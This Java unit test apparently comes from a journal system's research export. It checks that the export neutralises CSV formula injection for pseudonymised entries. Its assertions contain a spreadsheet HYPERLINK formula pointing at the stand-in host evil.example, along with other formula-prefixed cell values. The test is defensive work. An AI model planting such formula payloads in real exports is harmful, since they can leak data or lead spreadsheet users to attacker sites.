package dk.samskabelse.journal.query.research;

import static org.assertj.core.api.Assertions.assertThat;

import dk.samskabelse.journal.query.eventlog.EventCsv;
import dk.samskabelse.journal.query.eventlog.EventCsvTest;
import dk.samskabelse.journal.query.eventlog.LoggedEntry;
import java.time.Clock;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The research CSV carries the project's name and municipality: formula cells there are neutralised too. */
class ResearchExportCsvTest {

    @Test
    void formulaCellsOfTheResearchExportAreNeutralised() {
        ProjectPseudonyms pseudonyms = new ResearchPseudonyms(
                        new ResearchKey(null, null, Clock.systemUTC(), "a-test-key-of-at-least-thirty-two-characters"))
                .forProject("p-1");
        List<LoggedEntry> research = EventCsvTest.entries().stream()
                .map(e -> new LoggedEntry(
                        e.sequenceNumber(),
                        e.entryId(),
                        e.type(),
                        e.effectiveOn(),
                        e.recordedAt(),
                        pseudonyms.user(e.recordedBy()),
                        ResearchEvents.pseudonymise(e.payload(), pseudonyms)))
                .toList();

        String csv = EventCsv.write(research);

        assertThat(csv)
                .contains(
                        "\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"klik\"\")\"",
                        "\"'+SUM(1+1)\"",
                        "\"'@SUM(A1) noter\"");
        for (String line : csv.lines().toList()) {
            assertThat(line).as(line).doesNotContain(",=", ",+", ",@", ",\"=", ",\"+", ",\"@");
        }
    }
}
